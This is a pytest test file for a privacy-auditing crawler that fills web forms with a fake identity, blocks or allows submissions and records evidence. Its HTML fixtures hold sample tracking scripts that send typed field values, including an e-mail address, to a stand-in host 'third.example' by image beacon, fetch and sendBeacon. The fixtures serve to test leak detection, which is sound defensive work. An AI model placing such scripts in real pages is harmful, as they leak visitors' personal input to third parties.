"""Forms are filled in as a person would, and nothing is sent to the site that was not allowed."""

from __future__ import annotations

import asyncio
from contextlib import suppress
from dataclasses import dataclass, field
from urllib.parse import unquote_plus, urlsplit

import pytest

from auditor.canary import Identity, make_identity
from auditor.demo.web import Hit, LocalWeb, html, redirect, text
from auditor.driver.chromium.process.programs import Browsers
from auditor.evidence import EvidenceKind, Visit
from policy.errors import Location
from policy.model import FormHint
from tests.crawl.audited import Crawled, crawl_web
from tests.crawl.renderers import kill_renderers

pytestmark = pytest.mark.browser

NEWS = '<form id=news action="/newsletter" method=post><label>E-mail <input type=email name=mail></label><button>Join</button></form>'
TELL = """<script>
const tell = (what, data) => { new Image().src = 'https://third.example/' + what + '?' + new URLSearchParams(data); };
document.addEventListener('change', e => tell('changed', {name: e.target.name, value: e.target.value, trusted: e.isTrusted}), true);
</script>"""


@dataclass
class Shop:
    """A shop whose pages are given, and what it and the third party heard."""

    browsers: Browsers
    web: LocalWeb = field(default_factory=LocalWeb)
    identity: Identity = field(default_factory=make_identity)
    crawled: Crawled = field(default_factory=Crawled)

    def __post_init__(self) -> None:
        self.web.route("*", "/*", text("fine").adding(("Access-Control-Allow-Origin", "*")))

    def fill(
        self, *bodies: str, forms: tuple[FormHint, ...] = (), scenarios: tuple[str, ...] = ("no-choice",), **more
    ) -> Visit:
        """Visit these pages, `/`, `/1`, ...; gives the visit of the first."""
        paths = ["/", *(f"/{n}" for n in range(1, len(bodies)))]
        for path, body in zip(paths, bodies, strict=True):
            self.web.route("shop.example", path, html(f"<title>t</title>{body}"))
        self.crawled = crawl_web(
            self.web, self.browsers, *paths, identity=self.identity, forms=forms, scenarios=scenarios, **more
        )
        return self.crawled.visit("/", scenarios[0])

    @property
    def submitted(self) -> list[Hit]:
        """Requests that reached the site with something in them."""
        return [
            h for h in self.crawled.hits if host(h) == "shop.example" and h.method not in ("GET", "HEAD", "OPTIONS")
        ]

    def told(self, what: str = "changed") -> list[str]:
        """Queries that reached the third party."""
        return [unquote_plus(urlsplit(h.url).query) for h in self.crawled.hits if urlsplit(h.url).path == f"/{what}"]


def host(hit: Hit) -> str:
    return urlsplit(hit.url).hostname or ""


@pytest.fixture
def shop(browsers) -> Shop:
    return Shop(browsers)


def test_fields_are_typed_into_by_trusted_keys_and_left(shop):
    visit = shop.fill(
        f"""{TELL}<form action=/order method=post><input name=first_name><input autocomplete=family-name name=b>
        <label>Telefon <input name=c></label><input type=tel name=d maxlength=11><textarea name=message></textarea>
        <input name=zip><input name=city><input name=street></form>"""
    )
    i = shop.identity
    values = {
        "first_name": i.first_name, "b": i.last_name, "c": i.phone, "d": i.phone_national.replace(" ", ""),
        "message": i.message, "zip": i.postcode, "city": i.city, "street": i.street,
    }  # fmt: skip
    assert sorted(shop.told()) == sorted(f"name={n}&value={v}&trusted=true" for n, v in values.items())
    (filling,) = visit.fillings
    assert [(f.name, f.kind) for f in filling.fields] == [
        ("first_name", "name"), ("b", "name"), ("c", "phone"), ("d", "phone"), ("message", "other"), ("zip", "address"),
        ("city", "address"), ("street", "address"),
    ]  # fmt: skip
    assert (filling.action, filling.method, filling.submitted) == ("https://shop.example/order", "post", False)
    assert (visit.settled, visit.blind) == ("virtual", ())
    assert any(r.phase == "fill" for r in visit.requests)


UNTOUCHED = """<form action=/a method=post><input name=email type=email>
<input name=card-number><input autocomplete=cc-name name=cn><input name=cvv><label>IBAN <input name=i></label><input type=password name=card-pin autocomplete=cc-csc>
<input name=q type=search><input name=otp autocomplete=one-time-code><input name=email2 type=email style="display:none">
<input name=phone style="position:absolute;left:-9999px"><input name=fname style="opacity:0"><div style="height:0;overflow:hidden"><input name=city></div>
<div style="position:absolute;left:-5000px" aria-hidden=true><input name=url2 tabindex=-1><input name=zip2 tabindex=-1></div>
<input name=username readonly value=ours><input name=login disabled value=ours>
<input name=website><input type=checkbox name=news><select name=country><option>a<option>b</select></form>"""


def test_what_is_never_typed_into(shop):
    visit = shop.fill(TELL + UNTOUCHED)
    assert [f.name for f in visit.fillings[0].fields] == ["email"]
    assert [t.partition("&")[0] for t in shop.told() if "name=news" not in t and "name=country" not in t] == [
        "name=email"
    ]
    assert visit.blind == ()


TOUCHED = """<form action=/b method=post><input type=password name=secret><div aria-hidden=true><input name=lname></div><input name=zip tabindex=-1>
<input name=tel value=kept></form>"""


def test_what_a_visitor_sees_is_typed_into_whatever_its_markup_says(shop):
    visit = shop.fill(TELL + TOUCHED)
    assert [(f.name, f.kind) for f in visit.fillings[0].fields] == [
        ("secret", "other"), ("lname", "name"), ("zip", "address"), ("tel", "phone"),
    ]  # fmt: skip
    assert f"name=tel&value={shop.identity.phone}&trusted=true" in shop.told()
    assert visit.blind == ()


def test_forms_that_ask_for_nothing_personal_are_left_alone(shop):
    visit = shop.fill(
        f"{TELL}<form action=/s><input name=q></form><form><textarea name=message></textarea><input name=qty></form>"
    )
    assert (visit.fillings, shop.told()) == ((), [])
    assert not any(r.phase == "fill" for r in visit.requests)


def test_nothing_is_filled_in_unless_a_rule_needs_it(shop, browsers):
    shop.web.route("shop.example", "/", html(TELL + NEWS))
    crawled = crawl_web(shop.web, browsers)
    assert crawled.visit().fillings == ()
    assert not [h for h in crawled.hits if host(h) == "third.example"]


def test_no_picture_shows_what_is_typed(shop, browsers):
    form = "<form><input name=email type=email style='font-size:60px;width:90%'></form>"
    assert shop.fill(form).fillings
    untouched = crawl_web(shop.web, browsers)
    assert shop.crawled.shots[0]
    assert shop.crawled.shots == untouched.shots


SENDING = """<form id=f action="/submit?x=1" method=post><input name=email type=email></form><form id=g action=/got><input name=a></form>
<script>
const box = document.querySelector('[name=email]'), v = () => box.value;
box.addEventListener('blur', () => {
  fetch('/fetched', {method: 'POST', body: v()}).catch(() => {});
  fetch('/put', {method: 'PUT', body: v()}).catch(() => {});
  fetch('/kept', {method: 'POST', body: v(), keepalive: true}).catch(() => {});
  fetch('https://api.shop.example/cors', {method: 'POST', body: v()}).catch(() => {});
  const x = new XMLHttpRequest(); x.open('POST', '/xhr'); x.send(v());
  navigator.sendBeacon('/beacon', v());
  fetch('/read').catch(() => {});
  fetch('https://third.example/taken', {method: 'POST', mode: 'no-cors', body: v()}).catch(() => {});
  new Worker(URL.createObjectURL(new Blob(["onmessage = e => fetch('https://shop.example/worker', {method: 'POST', body: e.data})"]))).postMessage(v());
  setTimeout(() => fetch('/late', {method: 'POST', body: v()}).catch(() => {}), 4000);
  setTimeout(() => fetch('https://third.example/later', {method: 'POST', mode: 'no-cors', body: v()}), 4500);
});
addEventListener('pagehide', () => { navigator.sendBeacon('/bye', v()); navigator.sendBeacon('https://third.example/bye', v()); });
</script>"""
HELD = ["/beacon", "/bye", "/fetched", "/kept", "/late", "/put", "/worker", "/xhr"]


def test_what_scripts_send_to_the_site_is_held_back_and_recorded(shop):
    visit = shop.fill(SENDING)
    assert shop.submitted == []
    assert not [
        h for h in shop.crawled.hits if host(h).endswith("shop.example") and shop.identity.email.encode() in h.body
    ]
    heard = {urlsplit(h.url).path for h in shop.crawled.hits}
    assert {"/read", "/taken", "/later"} <= heard
    assert [h for h in shop.crawled.hits if h.url == "https://third.example/bye"]
    blocked = {urlsplit(r.url).path for r in visit.requests if r.error and r.method not in ("GET", "OPTIONS")}
    assert set(HELD) | {"/cors"} <= blocked
    assert {r.error for r in visit.requests if urlsplit(r.url).path in HELD and r.error} == {"inspector"}
    assert visit.settled == "virtual"


@pytest.mark.parametrize(
    "how",
    ["f.submit()", "f.requestSubmit()", "g.submit()", "f.target='_blank', f.submit()", "f.target='w', f.submit()"],
)
def test_a_form_that_a_script_submits_goes_nowhere(shop, how):
    visit = shop.fill(
        f"<iframe name=w></iframe>{SENDING}<script>box.addEventListener('blur', () => {{ a = document.forms; f = a.f; g = a.g; {how} }})</script>"
    )
    assert not [h for h in shop.crawled.hits if urlsplit(h.url).path in ("/submit", "/got")]
    assert visit.fillings
    assert visit.outcome == "loaded"
    assert visit.final_url == "https://shop.example/"
    assert [r for r in visit.requests if urlsplit(r.url).path in ("/submit", "/got") and r.error == "inspector"]


def test_a_form_of_a_third_party_is_not_submitted_either(shop):
    shop.fill("""<form id=f action="https://third.example/sub" method=post><input name=email></form>
    <script>document.querySelector('input').addEventListener('blur', () => document.forms[0].submit())</script>""")
    assert not [h for h in shop.crawled.hits if urlsplit(h.url).path == "/sub"]


def test_enter_is_never_pressed(shop):
    shop.fill(
        f"{TELL}{NEWS}<script>addEventListener('keydown', e => tell('key', {{key: e.key, trusted: e.isTrusted}}), true)</script>"
    )
    keys = shop.told("key")
    assert "key=@&trusted=true" in keys
    assert not [k for k in keys if "Enter" in k]


def test_a_form_is_filled_in_once_for_each_shape_of_page(shop):
    for n in range(1, 4):
        shop.web.route("shop.example", f"/p/{n}00", html(NEWS))
    shop.fill(*[TELL + NEWS] * 3, start=("/", "/1", "/2"))
    filled = sorted(v.url for v in shop.crawled.visits if v.fillings)
    assert filled == ["https://shop.example/", "https://shop.example/1"]


def test_the_first_page_of_a_shape_fills_in_though_another_answers_sooner(shop):
    """Pages are visited side by side: `/2` is loaded long before `/1`, which is before it in the list."""
    served = asyncio.Event()

    async def first(_request):
        with suppress(TimeoutError):
            await asyncio.wait_for(served.wait(), 2)
        return html(f"<title>t</title>{NEWS}")

    async def second(_request):
        served.set()
        return html(f"<title>t</title>{NEWS}")

    shop.web.route("shop.example", "/", html("<title>t</title>"))
    shop.web.route("shop.example", "/1", first)
    shop.web.route("shop.example", "/2", second)
    crawled = crawl_web(shop.web, shop.browsers, "/", "/1", "/2", identity=shop.identity)
    assert [v.url for v in crawled.visits if v.fillings] == ["https://shop.example/1"]


def test_a_form_of_a_page_that_crashed_is_filled_in_on_the_next(shop):
    def crash(_request):
        kill_renderers()
        return text("gone")

    shop.web.route("shop.example", "/crash", crash)
    shop.fill("", f"{NEWS}<script>document.addEventListener('input', () => fetch('/crash'))</script>", NEWS)
    outcomes = {v.url: (v.outcome, bool(v.fillings)) for v in shop.crawled.visits}
    assert outcomes["https://shop.example/1"][0] == "crashed"
    assert outcomes["https://shop.example/2"] == ("loaded", True)


def test_each_scenario_fills_in(shop):
    shop.fill(NEWS, scenarios=("no-choice", "gpc"))
    assert all(v.fillings for v in shop.crawled.visits)
    assert len(shop.crawled.visits) == 2


def allowed(**which: str) -> tuple[FormHint, ...]:
    return (FormHint(location=Location(file="p", line=1, column=1), allow_submit=True, **which),)


@pytest.mark.parametrize(
    "which",
    [{"action": "/newsletter"}, {"name": "new*"}, {"selector": "#news"}, {"action": "https://shop.example/news*"}],
)
def test_a_form_that_may_be_submitted_is(shop, which):
    shop.web.route("shop.example", "/newsletter", redirect("/thanks", status=303))
    shop.web.route(
        "shop.example", "/thanks", html(f"<title>Thanks</title>{TELL}<script>tell('thanked', {{}})</script>")
    )
    visit = shop.fill(NEWS + UNTOUCHED, forms=allowed(**which))
    assert [(urlsplit(h.url).path, h.body.decode()) for h in shop.submitted] == [
        ("/newsletter", "mail=" + shop.identity.email.replace("@", "%40"))
    ]
    assert len(shop.told("thanked")) == 1
    assert sorted((f.name, f.submitted) for f in visit.fillings) == [("", False), ("news", True)]
    assert visit.final_url == "https://shop.example/"
    assert len(visit.forms) == 2


def test_a_hint_for_another_form_allows_nothing(shop):
    shop.fill(NEWS, forms=allowed(action="/other"))
    assert shop.submitted == []


def test_a_form_may_be_left_alone(shop):
    visit = shop.fill(
        TELL + NEWS, forms=(FormHint(location=Location(file="p", line=1, column=1), name="news", fill=False),)
    )
    assert (visit.fillings, shop.told()) == ((), [])


def test_what_moves_the_focus_gets_nothing(shop):
    visit = shop.fill(f"""{TELL}<form><input name=email type=email><input name=card-number></form><script>
    document.forms[0].email.addEventListener('input', () => document.forms[0]['card-number'].focus())</script>""")
    assert "name=card" not in "".join(shop.told())
    assert visit.fillings[0].fields == ()
    assert [b.reason for b in visit.blind if b.kind == "filling"] == [
        "the form (/): the field 'email' could not be typed into: what was typed did not stay in it"
    ]


def test_fields_in_shadow_trees_and_own_frames_are_reached(shop):
    shop.web.route("shop.example", "/frame", html(TELL + "<input name=phone>"))
    shop.web.route("third.example", "/frame", html(TELL + "<input name=phone type=tel>"))
    shop.fill(f"""{TELL}<div id=h></div><iframe src=/frame></iframe><iframe src=https://third.example/frame></iframe>
    <script>h.attachShadow({{mode: 'open'}}).innerHTML = '<form><input name=email></form>'</script>""")
    filled = [(f.document, [x.name for x in f.fields]) for v in shop.crawled.visits for f in v.fillings]
    assert filled == [("https://shop.example/", ["email"]), ("https://shop.example/frame", ["phone"])]


def test_a_page_that_resists_is_left_in_time_and_noted(shop):
    visit = shop.fill("""<form><input name=email></form><script>
    document.forms[0].email.addEventListener('keydown', () => { const end = Date.now() + 3000; while (Date.now() < end); })</script>""")
    assert [b.kind for b in visit.blind if b.kind == "filling"]


def test_no_value_of_the_identity_is_in_the_evidence_of_filling(shop):
    visit = shop.fill(TELL + NEWS)
    assert shop.identity.email not in repr(visit.fillings)


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        ("<form></form>" * 201 + NEWS, "a document has more forms than are looked at"),
        (
            "<form action=/f><input type=email name=m>" + "<input name=x>" * 500 + "</form>",
            "a document has more fields in one form than are looked at",
        ),
        (NEWS + "<iframe srcdoc=x></iframe>" * 100, "the page has 101 frames; forms were looked for in the first 100"),
    ],
    ids=["forms", "fields", "frames"],
)
def test_what_is_not_filled_in_because_it_is_too_much_is_said(shop, body, reason):
    blind = [b for b in shop.fill(body).blind if b.kind is EvidenceKind.FILLING]
    assert [(b.reason, b.cut) for b in blind] == [(reason, True)]


def test_a_hundred_fields_are_typed_into(shop):
    visit = shop.fill(
        f"{TELL}<form action=/f>" + "".join(f"<input type=email name=m{n}>" for n in range(100)) + "</form>"
    )
    assert [f.name for f in visit.fillings[0].fields] == [f"m{n}" for n in range(100)]
    assert visit.blind == ()
